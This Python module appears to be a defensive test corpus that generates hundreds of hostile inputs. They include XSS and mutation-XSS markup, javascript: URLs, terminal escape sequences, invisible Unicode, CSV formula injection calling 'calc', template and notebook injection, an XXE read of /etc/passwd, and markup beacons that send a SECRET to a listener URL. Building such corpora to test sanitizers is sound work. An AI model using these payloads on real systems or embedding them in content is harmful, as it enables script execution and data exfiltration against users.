"""Texts that try to run, to call home, to hide or to be computed: what browsers, terminals and spreadsheets obey.

Six hundred by combining what starts something, what it breaks out of and how it is disguised. What runs calls
`ran(n)`, which a page's host has; what calls home asks a listener on loopback.
"""

from hostile import CORPUS

RUN = "RUN()"
"""Stands for the call that tells that a text ran."""

FIRING = (
    "<script>RUN()</script>", "<script type=module>RUN()</script>", "<script src=data:text/javascript,RUN()></script>",
    "<script src=x onerror=RUN()></script>", "<img src=x onerror=RUN()>", "<img src onerror=RUN()>",
    "<image src=x onerror=RUN()>", "<picture><source srcset=x><img onerror=RUN() src=x></picture>",
    "<svg onload=RUN()>", "<svg><image href=x onerror=RUN()>", "<svg><script>RUN()</script></svg>",
    "<svg><script href='data:text/javascript,RUN()'/></svg>", "<svg><animate onbegin=RUN() attributeName=x dur=1s>",
    "<svg><set onbegin=RUN() attributeName=x to=1>", "<svg><animateTransform onbegin=RUN() attributeName=transform>",
    "<svg><animate onend=RUN() attributeName=x dur=10ms>", "<svg><foreignObject><img src=x onerror=RUN()>",
    "<svg><style onload=RUN()></style></svg>", "<svg><title><img src=x onerror=RUN()></title></svg>",
    "<svg><desc><style><img src=x onerror=RUN()></style></desc></svg>", "<svg><a xlink:href=javascript:RUN()><text>x</text></a>",
    "<math><mtext><img src=x onerror=RUN()></mtext></math>", "<math href=javascript:RUN()>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=RUN()></annotation-xml></math>",
    "<body onload=RUN()>", "<body onpageshow=RUN()>", "<frameset onload=RUN()>", "<video src=x onerror=RUN()></video>",
    "<video><source src=x onerror=RUN()></video>", "<audio src=x onerror=RUN()></audio>", "<video src=x><track src=x onerror=RUN() default></video>",
    "<details open ontoggle=RUN()>x</details>", "<input autofocus onfocus=RUN()>", "<input type=image src=x onerror=RUN()>",
    "<textarea autofocus onfocus=RUN()></textarea>", "<select autofocus onfocus=RUN()></select>",
    "<button autofocus onfocus=RUN()>x</button>", "<a href=# autofocus onfocus=RUN()>x</a>", "<b tabindex=1 autofocus onfocus=RUN()>x</b>",
    "<b contenteditable autofocus onfocus=RUN()>x</b>", "<keygen autofocus onfocus=RUN()>", "<iframe onload=RUN()></iframe>",
    "<iframe srcdoc='<script>parent.RUN()</script>'></iframe>", "<iframe src=javascript:parent.RUN()></iframe>",
    "<iframe src='data:text/html,<script>RUN()</script>'></iframe>", "<object data=x onerror=RUN()></object>",
    "<object data='data:text/html,<script>RUN()</script>'></object>", "<embed src=x onerror=RUN()>", "<embed src=javascript:RUN()>",
    "<style onload=RUN()></style>", "<link rel=stylesheet href=data:text/css, onload=RUN()>", "<link rel=stylesheet href=x onerror=RUN()>",
    "<marquee onstart=RUN()>x</marquee>", "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=RUN()>x</b>",
    "<b style='transition:color 1ms' ontransitionend=RUN()>x</b>", "<b onpointerover=RUN()>x</b>", "<b onclick=RUN()>x</b>",
    "<template shadowrootmode=open><img src=x onerror=RUN()></template>", "<noscript><p title='</noscript><img src=x onerror=RUN()>'>",
    "<xmp><p title='</xmp><img src=x onerror=RUN()>'>", "<b popover id=p onbeforetoggle=RUN()>x</b><button popovertarget=p>x</button>",
    "<form><button formaction=javascript:RUN()>x</button></form>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN()&gt;'>",
)  # fmt: skip
"""Markup that runs by itself, or at the first touch."""

OPENED = (
    '">', "'>", "`>", "-->", "--!>", "]]>", "?>", "*/</style>", "</script>", "</style>", "</title>", "</textarea>",
    "</noscript>", "</template>", "</select>", "</svg>", "</math>", "</pre></code>", "</td></tr></table>", "</mark></span></div></section>",
)  # fmt: skip
"""What ends the place a text was put in."""

ONES = (
    "<script>RUN()</script>", "<img src=x onerror=RUN()>", "<svg onload=RUN()>", "<details open ontoggle=RUN()>", "<iframe srcdoc='<script>parent.RUN()</script>'>",
)  # fmt: skip

DISGUISES = (
    lambda m: m.upper().replace(RUN.upper(), RUN), lambda m: m.replace("<", "<<", 1), lambda m: m.replace(" ", "/"),
    lambda m: m.replace(" ", "\t"), lambda m: m.replace(" ", "\n"), lambda m: m.replace(" ", "\x0c"), lambda m: m.replace(" ", "\r"),
    lambda m: m.replace("=", " = "), lambda m: m.replace("on", "\x00on"), lambda m: m.rstrip(">"), lambda m: m.replace("<", "\x00<"),
    lambda m: m.replace("(", "&lpar;").replace(")", "&rpar;"), lambda m: m.replace("(", "&#40;").replace(")", "&#x29;"),
    lambda m: m.replace("<", "&lt;").replace(">", "&gt;"), lambda m: m.replace("<", "&#60").replace(">", "&#62"),
    lambda m: m.replace("<", "%3C").replace(">", "%3E"), lambda m: m.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda m: m.replace("<", "\\x3c").replace(">", "\\x3e"), lambda m: m.replace("<", "＜").replace(">", "＞"),
    lambda m: m.replace("<", "\u202e<"), lambda m: f"<!--{m}-->", lambda m: f"<![CDATA[{m}]]>", lambda m: f"<noembed>{m}</noembed>",
    lambda m: f"```html\n{m}\n```",
)  # fmt: skip

EVENTS = (
    "onmouseover", "onfocus autofocus x", "onload", "onerror", "onclick", "onanimationstart", "ontoggle", "onpointerenter",
    "onbegin", "onwheel", "onkeydown", "onauxclick", "onscrollend", "onbeforematch",
)  # fmt: skip
QUOTED = ('"', "'", "`", "")

CARRIERS = (
    "<a href={}>x</a>", "<form action={}><button>x</button></form>", "<iframe src={}></iframe>", "<object data={}></object>", "<embed src={}>",
    "<meta http-equiv=refresh content=0;url={}>", "<base href={}//><a href=x>x</a>", "<svg><a href={}><text>x</text></a></svg>",
    "[x]({})", "![x]({})", "<{}>",
)  # fmt: skip
SPELLED = (
    "javascript:RUN()", "JaVaScRiPt:RUN()", "java\tscript:RUN()", "&#106;avascript:RUN()", "\x01javascript:RUN()",
    "javascript&colon;RUN()", "data:text/html,<script>RUN()</script>", "vbscript:RUN()",
)  # fmt: skip

CLOBBERS = tuple(
    f"<{tag} id={name} name={name}>x"
    for name in ("attributes", "ownerDocument", "currentScript", "body", "jupyter-config-data", "cookie", "getElementById", "IPython")
    for tag in ("form", "img", "a", "input")
)  # fmt: skip
"""Names that scripts of a page look up."""

TERMINAL = tuple(
    f"{start}{rest}"
    for start in ("\x1b[", "\x9b")
    for rest in ("31mred", "2J", "H", "1A", "2K", "?1049h", "?25l", "6n", "8m hidden", "5i", ">c", "38;5;1m", "1;31;40m", "3J")
) + tuple(
    f"{start}{rest}{end}"
    for start, end in (("\x1b]", "\x07"), ("\x1b]", "\x1b\\"), ("\x9d", "\x9c"))
    for rest in ("0;title", "8;;http://evil.example", "52;c;ZXZpbA==", "1337;File=inline=1:AAAA", "10;?", "9;4;1;50", "777;notify;a;b")
) + ("\x1bc", "\x1bP+q544e\x1b\\", "\x1b_Gf=24;AAAA\x1b\\", "\x1b#8", "a\x08b", "a\rb", "\x07", "\x0e", "\x7f", "\x00", "\x1b", "\x1a")  # fmt: skip
"""What a terminal would obey: CSI, OSC, DCS, APC and single controls."""

UNSEEN = tuple(f"pay{chr(code)}load" for code in (
    0x00AD, 0x061C, 0x200B, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2061, 0x2062, 0x2063,
    0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0xFEFF, 0xFFF9, 0xFFFA, 0xFFFB, 0xE0001, 0xE0041, 0xE007F,
))  # fmt: skip
"""Marks that hide or reorder what stands beside them."""

FORMULAS = tuple(
    f"{start}{rest}"
    for start in ("=", "+", "-", "@", "\t=", "\r=")
    for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "WEBSERVICE(A1)", "SUM(1)*cmd", "IMPORTXML(A1)")
)  # fmt: skip
"""What a spreadsheet computes (OWASP, CSV Injection)."""

TEMPLATES = (
    "{{7*7}}", "{{constructor.constructor('RUN()')()}}", "${RUN()}", "#{RUN()}", "<%= RUN() %>", "{% raw %}RUN(){% endraw %}", "`${RUN()}`",
    "$\\href{javascript:RUN()}{x}$", "$$\\style{background:red}{x}$$", "\\(\\unicode{<img src=x onerror=RUN()>}\\)", "$\\class{jp-Cell}{x}$",
    "$\\cssId{body}{x}$", "\\[\\require{html}\\href{javascript:RUN()}{x}\\]", "$\\text{</script><script>RUN()</script>}$",
    "<b data-commandlinker-command=terminal:create-new data-commandlinker-args={}>x</b>", "<b data-mime-type=text/html>x</b>",
    "<widget-view model=x>", "<script type=application/vnd.jupyter.widget-view+json>{}</script>", "<jp-button onclick=RUN()>x</jp-button>",
    '{"text/html": "<img src=x onerror=RUN()>"}', '"}</script><script>RUN()</script>{"', "__proto__", "constructor", "toString",
    "%%javascript\nRUN()", "%%html\n<script>RUN()</script>", "<script type=text/template><img src=x onerror=RUN()></script>",
    "|a|\n|-|\n|<img src=x onerror=RUN()>|", "<?php RUN() ?>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&x;&NewLine;&Tab;&colon;",
    "\\u003cscript\\u003eRUN()\\u003c/script\\u003e", "+ADw-script+AD4-RUN()+ADw-/script+AD4-", "\ufeff<script>RUN()</script>",
)  # fmt: skip
"""What a layer in between might fill in, typeset or parse."""

HOMEWARD = (
    "![a](URL)", "![a][r]\n\n[r]: URL", "<img src=URL>", "<img srcset='URL 2x'>", "<picture><source srcset=URL><img></picture>",
    "<video poster=URL></video>", "<video src=URL></video>", "<audio src=URL autoplay></audio>", "<video src=x><track default src=URL></video>",
    "<link rel=stylesheet href=URL>", "<link rel=preload as=image href=URL>", "<link rel=prefetch href=URL>", "<link rel=dns-prefetch href=URL>",
    "<link rel=preconnect href=URL>", "<link rel=modulepreload href=URL>", "<link rel=icon href=URL>", "<link rel=manifest href=URL>",
    "<style>@import 'URL';</style>", "<style>*{background:url(URL)}</style>", "<b style='background:url(URL)'>x</b>",
    "<b style='list-style:url(URL);display:list-item'>x</b>", "<style>@font-face{font-family:f;src:url(URL)}*{font-family:f}</style>",
    "<b style='cursor:url(URL),auto'>x</b>", "<b style='content:url(URL)'>x</b>", "<table background=URL><tr><td>x</table>",
    "<body background=URL>", "<input type=image src=URL>", "<iframe src=URL></iframe>", "<object data=URL></object>", "<embed src=URL>",
    "<meta http-equiv=refresh content='0;url=URL'>", "<base href=URL><img src=x>", "<svg><image href=URL /></svg>", "<svg><use href=URL#x /></svg>",
    "<svg><filter id=f><feImage href=URL /></filter><rect filter=url(#f) width=9 height=9 /></svg>", "<script src=URL></script>",
    "<script>fetch('URL')</script>", "<form action=URL id=f><input name=d></form><script>f.submit()</script>", "<a href=x ping=URL>x</a>",
    "$\\style{background-image:url(URL)}{x}$",
)  # fmt: skip
"""Markup that asks somebody for something."""


def beacons(origin: str) -> list[str]:
    """Texts that would tell a listener at `origin` that somebody read them."""
    return [text.replace("URL", f"{origin}/leak/{n}?d=SECRET") for n, text in enumerate(HOMEWARD)]


def payloads() -> list[str]:
    """Texts that run, hide or are computed, each with its number in the call."""
    texts = [
        *FIRING,
        *(opened + one for opened in OPENED for one in ONES),
        *(disguise(one) for disguise in DISGUISES for one in ONES),
        *(f"x{quote} {event}={quote}RUN(){quote} y={quote}" for quote in QUOTED for event in EVENTS),
        *(carrier.replace("{}", spelled) for carrier in CARRIERS for spelled in SPELLED),
        *CLOBBERS,
        *TERMINAL,
        *UNSEEN,
        *FORMULAS,
        *TEMPLATES,
    ]
    return [text.replace(RUN, f"ran({n})") for n, text in enumerate(dict.fromkeys(texts))]


def everything(origin: str = "http://127.0.0.1:9") -> list[str]:
    """All of them, and those of the shorter list."""
    return list(dict.fromkeys([*payloads(), *beacons(origin), *CORPUS]))
